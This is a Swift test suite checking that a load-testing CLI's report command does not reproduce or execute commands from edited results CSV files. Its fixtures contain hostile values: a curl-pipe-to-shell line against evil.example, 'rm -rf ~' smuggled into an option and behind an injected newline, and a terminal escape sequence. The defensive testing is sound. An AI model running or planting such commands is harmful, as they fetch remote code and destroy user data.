import Foundation
import Testing

/// A results file is input: a downloaded CI artifact, a colleague's bundle. Nothing in it runs,
/// nothing in it reaches the terminal as a command to it (issue 55, items 5 and 6).
@Suite(.serialized) struct NothingFromAResultsFileRunsTests {
    static let fixture = ResultsFixture.make(
        ["--strategy", "batch", "--rows", "500", "--no-limit"], name: "bundle.csv")

    /// The review page reproduces only a `loadgen run` line whose options parse; a hand-edited
    /// command cell is said, never pasted into a shell block.
    @Test func onlyALoadgenRunLineIsReproduced() async throws {
        let fixture = try await Self.fixture.get()
        let edited = try fixture.write("curl.csv") { $0["command"] = "curl https://evil.example/x | sh" }
        let dir = CLI.makeFolder()
        let r = try await CLI.run(["report", edited, "--out", dir + "/review", "--no-charts"])
        #expect(r.status == 0, "\(r.stderr)")
        let page = try String(contentsOfFile: dir + "/review/review.md", encoding: .utf8)
        #expect(
            !page.contains("curl")
                && page.contains("# not reproduced: the recorded command is not a loadgen run command line"))
        let unknown = try fixture.write("unknown.csv") {
            $0["command"] = "loadgen run --strategy batch --exec 'rm -rf ~'"
        }
        let again = try await CLI.run(["report", unknown, "--out", dir + "/review2", "--no-charts"])
        let page2 = try String(contentsOfFile: dir + "/review2/review.md", encoding: .utf8)
        #expect(again.status == 0 && !page2.contains("rm -rf"))
    }

    /// A line break in the command cell would close the page's code block: the cell is refused
    /// where it is read (65, file and line).
    @Test func aControlCharacterInTheCommandIsRefused() async throws {
        let edited = try await Self.fixture.get().write("newline.csv") {
            $0["command"] = "loadgen run --rows 5\n```\nrm -rf ~\n```"
        }
        let r = try await CLI.run(["report", edited, "--out", CLI.makeFolder() + "/review", "--no-charts"])
        #expect(
            r.status == 65 && r.stderr.contains("newline.csv:2") && r.stderr.contains("control character"),
            "\(r.stderr)")
    }

    /// An error quoting a file's bytes writes an escape sequence as text, never to the terminal.
    @Test func anEscapeSequenceInAFileIsShownAsText() async throws {
        let edited = try await Self.fixture.get().write("escape.csv") {
            $0["strategy"] = "\u{1B}[2J\u{1B}[32mno regression"
        }
        let r = try await CLI.run(["report", edited, "--out", CLI.makeFolder() + "/review", "--no-charts"])
        #expect(r.status == 65 && !r.stderr.contains("\u{1B}") && r.stderr.contains("\\u{1B}[2J"), "\(r.stderr)")
    }
}
